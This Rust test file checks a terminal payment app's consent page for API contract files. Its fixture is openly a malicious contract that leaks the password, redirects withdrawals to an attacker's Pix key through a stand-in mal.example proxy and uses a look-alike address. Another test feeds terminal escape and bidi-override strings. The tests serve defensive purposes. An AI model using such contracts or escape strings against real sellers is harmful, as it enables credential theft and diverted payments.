//! App models and tests of the consent page. On this page, the seller agrees to the settings in an
//! API contract file. The account pane's notice about this consent is tested here too.

use balcao::app::chrome::page as laid_out;
use balcao::app::cx::Route;
use balcao::app::screen::Focus;
use balcao::app::screens::Layer;
use balcao::app::screens::consent::ConsentPage;
use balcao::app::store::consent::pending;
use balcao::app::ui::input::{Input, Size};
use balcao::app::ui::{Area, Target};
use balcao::app::{Effect, Model, Pane, Wait};
use balcao::contract::{Contract, ContractLines, LINK_MESSAGE_LINE, PROXY_LINE};
use balcao::trade::{Ticket, VaultTrouble};
use balcao::words::{Catalogue, Lang};

use super::forms::forms;
use crate::models::{altered, buffer, input, looked_at, on, press, push, seen, text};

/// A malicious API contract file. It leaks the password, multiplies amounts by 100, and sends
/// withdrawals to an attacker's Pix key.
const STOLEN: &str = "confirmed = ['withdrawal.unit']
[login]
body = ['email', 'password', 'account']
field.password.name = 'memo'
field.account = { name = 'user', kind = 'fixed', default = 'lаdrao@mal.example' }
[create_link]
unit = 'centavos'
[withdrawal]
unit = 'centavos'
body = ['amount', 'key_kind', 'key', 'thief']
retention_seconds = 7200
retention_source = 'https://loja.example/docs#chaves'
field.key.name = 'x'
field.thief = { name = 'pixKey', kind = 'fixed', default = 'ladrao@mal.example' }
";

fn contract(text: &str) -> Contract {
    let lines =
        [(PROXY_LINE, "http://proxy.mal.example:3128"), (LINK_MESSAGE_LINE, "\"Pague em {url}\"")];
    let of_profile = lines.map(|(name, value)| (name.to_owned(), value.to_owned()));
    let contract = Contract::with(&[("/srv/ana/loja.toml", text)]).unwrap();
    match text == STOLEN {
        true => contract.with_profile_lines(&of_profile.into()),
        false => contract,
    }
}

fn lines(text: &str) -> ContractLines {
    contract(text).lines()
}

/// Returns an app model of the consent page for this API contract file.
fn page(lang: Lang, file: &str, agreed: Option<&str>) -> Model {
    let (_, mut model) = forms(lang).into_iter().find(|(name, _)| *name == "withdraw").unwrap();
    model.setup.contract = contract(file).into();
    model.sandbox = false;
    model.setup.profile = "loja".into();
    model.setup.base_url = "https://api.loja.example".into();
    model.agreed_lines = agreed.map(lines);
    assert!(!pending(&model).is_empty());
    push(&mut model, Route::Consent(None));
    model
}

fn reading(model: &mut Model) -> &mut ConsentPage {
    match model.layers.last_mut() {
        Some(Layer::Consent(reading)) => reading,
        other => panic!("{other:?}"),
    }
}

/// Returns the app model of the consent page, scrolled to its end.
fn read(mut model: Model) -> Model {
    model.scroll = seen(&model, 1).overflow.lines;
    reading(&mut model).is_read = true;
    reading(&mut model).buttons.armed_at_ms = model.now.boot_ms;
    // The hint that there is more text disappears at the end, which moves the end. Scroll to the
    // new end.
    model.scroll = seen(&model, 1).overflow.lines;
    model
}

fn with(mut model: Model, change: impl Fn(&mut ConsentPage)) -> Model {
    change(reading(&mut model));
    model
}

/// Returns app models of the consent page in every state, with the names of their snapshots.
pub fn pages(lang: Lang) -> Vec<(&'static str, Model)> {
    let page = |agreed| page(lang, STOLEN, agreed);
    let wait = Wait { ticket: Ticket(1), since_ms: 598_000 };
    let in_account = |agreed: Option<&str>| {
        let mut model = on(lang, Pane::Account);
        model.setup.contract = contract(STOLEN).into();
        model.agreed_lines = agreed.map(lines);
        model
    };
    let looked = || {
        let mut model = in_account(Some(STOLEN));
        push(&mut model, Route::Consent(None));
        model
    };
    let long = format!("withdrawal.field.key.label.en = '{}'", "x".repeat(500));
    vec![
        ("consent", page(None)),
        ("consent-middle", altered(page(None), |model| model.scroll = 12)),
        ("consent-dead", with(read(page(None)), |it| it.buttons.armed_at_ms = 600_400)),
        ("consent-live", looked_at(with(read(page(None)), |it| it.buttons.focus = Focus::Confirm))),
        ("consent-keeping", with(read(page(None)), |it| it.wait = Some(wait))),
        ("consent-not-kept", with(read(page(None)), |it| it.trouble = Some(VaultTrouble::Locked))),
        ("consent-again", page(Some("withdrawal.unit = 'centavos'"))),
        ("consent-too-long", self::page(lang, &long, None)),
        ("consent-look", looked()),
        ("account-contract", in_account(None)),
        ("account-contract-accepted", in_account(Some(STOLEN))),
    ]
}

/// Returns the whole text of the consent page. The terminal is tall enough to show it.
fn whole(model: &Model) -> String {
    text(&buffer(model, 80, 90))
}

#[test]
fn the_whole_page() {
    insta::assert_snapshot!("consent-whole-pt-BR", whole(&page(Lang::Pt, STOLEN, None)));
}

#[test]
fn units_that_differ_are_pointed_out() {
    let says = |file: &str| whole(&page(Lang::Pt, file, None));
    assert!(
        says("withdrawal.unit = 'centavos'").contains("consultada em reais e o saque é enviado")
    );
    let both = "withdrawal.unit = 'centavos'\nfee_preview.unit = 'centavos'";
    assert!(!says(both).contains("consultada em"));
}

fn press_all(model: &mut Model, keys: &str) -> Vec<Effect> {
    keys.split(' ').flat_map(|key| press(model, key)).collect()
}

/// The agree button must be disabled until every setting of the API contract was shown. This is
/// tested at every terminal size.
#[test]
fn button_is_active_only_after_every_line_was_shown() {
    for lang in Lang::ALL {
        for (columns, rows) in [(60, 18), (60, 24), (80, 24), (120, 40), (80, 90)] {
            let mut model = page(lang, STOLEN, None);
            model.withdrawals.open.clear();
            input(&mut model, Input::Resize(Size { columns, rows }));
            input(&mut model, Input::Wheel(0));
            let mut seen = Vec::new();
            let mut pages = 0;
            loop {
                let screen = text(&buffer(&model, columns, rows));
                seen.extend(screen.lines().map(str::to_owned));
                if reading(&mut model).is_read {
                    break;
                }
                assert_eq!(press(&mut model, "Tab"), vec![]);
                assert!((reading(&mut model).buttons.focus == Focus::Back), "{columns}x{rows}");
                press(&mut model, "PgDn");
                input(&mut model, Input::Wheel(0));
                pages += 1;
                assert!(pages < 200, "{columns}x{rows}:\n{screen}");
            }
            // A very tall terminal shows all settings of the API contract. They are between the
            // title and the buttons.
            let tall = text(&buffer(&page(lang, STOLEN, None), columns, 200));
            let all: Vec<_> =
                tall.lines().skip(6).take(190).filter(|line| !line.is_empty()).collect();
            assert!(all.len() > 30, "{tall}");
            for line in all {
                let is_it = |other: &String| other.starts_with(line);
                assert!(seen.iter().any(is_it), "{columns}x{rows}: {line}");
            }
            assert_eq!(press_all(&mut model, "Tab Enter"), vec![], "dead for a moment");
            model.now.boot_ms += 500;
            let end = model.areas(model.size).unwrap().body.bottom();
            let is_there = |(area, target): &(Area, Target)| {
                *target == Target::Button(1) && area.y < end && area.width > 0 && area.height > 0
            };
            assert!(laid_out(&model, model.size).targets.iter().any(is_there));
            assert!(matches!(press(&mut model, "Enter")[..], [Effect::Agree(_)]));
        }
    }
}

#[test]
fn hostile_file_text_is_marked_and_moves_no_button() {
    let nasty = "\\u001b[2J\\u202E\\u200b".repeat(20);
    let file = format!(
        "[withdrawal.field.\"\\u001b[31m\\u202e\"]\nname = 'n'\nkind = 'text'\n\
         [withdrawal.field.key]\nlabel.en = \"{nasty}\"\nlabel.pt-BR = \"a\\n\\n\\nb\""
    );
    for lang in Lang::ALL {
        let model = page(lang, &file, None);
        for rows in [18, 24, 90] {
            let screen = text(&buffer(&model, 80, rows));
            let odd = |c: char| c.is_control() && c != '\n' || "\u{202e}\u{200b}".contains(c);
            assert!(!screen.contains(odd), "{screen}");
            let does = Catalogue::of(lang).text("consent-do");
            let row = screen.lines().position(|line| line.contains(&does)).expect(&screen);
            let page = laid_out(&model, Size { columns: 80, rows });
            let is_it = |(area, target): &(Area, Target)| {
                *target == Target::Button(1) && usize::from(area.y) == row
            };
            assert!(page.targets.iter().any(is_it), "{screen}");
        }
    }
}
